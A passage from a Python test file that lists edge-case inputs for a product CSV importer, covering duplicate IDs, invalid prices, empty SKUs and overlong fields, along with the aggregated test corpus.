        ),
        errors={(3, "vendor_product_id", "DUPLICATE_VENDOR_PRODUCT_ID")},
        valid=2,
    ),
    Hostile(
        "a wrong row has only its own error",
        products({"sku": "A"}, {"sku": "A", "price": "0"}),
        errors={(3, "price", "INVALID_PRICE")},
        valid=1,
    ),
    Hostile(
        "empty SKUs are not duplicates",
        each("sku", "", ""),
        errors=every_row(2, "sku", "REQUIRED_FIELD"),
    ),
    Hostile(
        "ids that overlong text would share",
        each("sku", "x" * 101, "x" * 102),
        errors=every_row(2, "sku", "FIELD_TOO_LONG"),
    ),
]

CORPUS: list[Hostile] = [
    *NOTHING_IN_IT,
    *NO_CSV,
    *ENCODINGS,
    *QUOTES,
    *COLUMNS,
    *CELL_COUNTS,
    *TOO_MUCH,
    *ROW_NUMBERS,
    *NUMBERS,
    *EMPTY_CELLS,
    *LENGTHS,
    *CHARACTERS,
    *PAYLOADS,
    *CATEGORIES,
    *DUPLICATES,
]
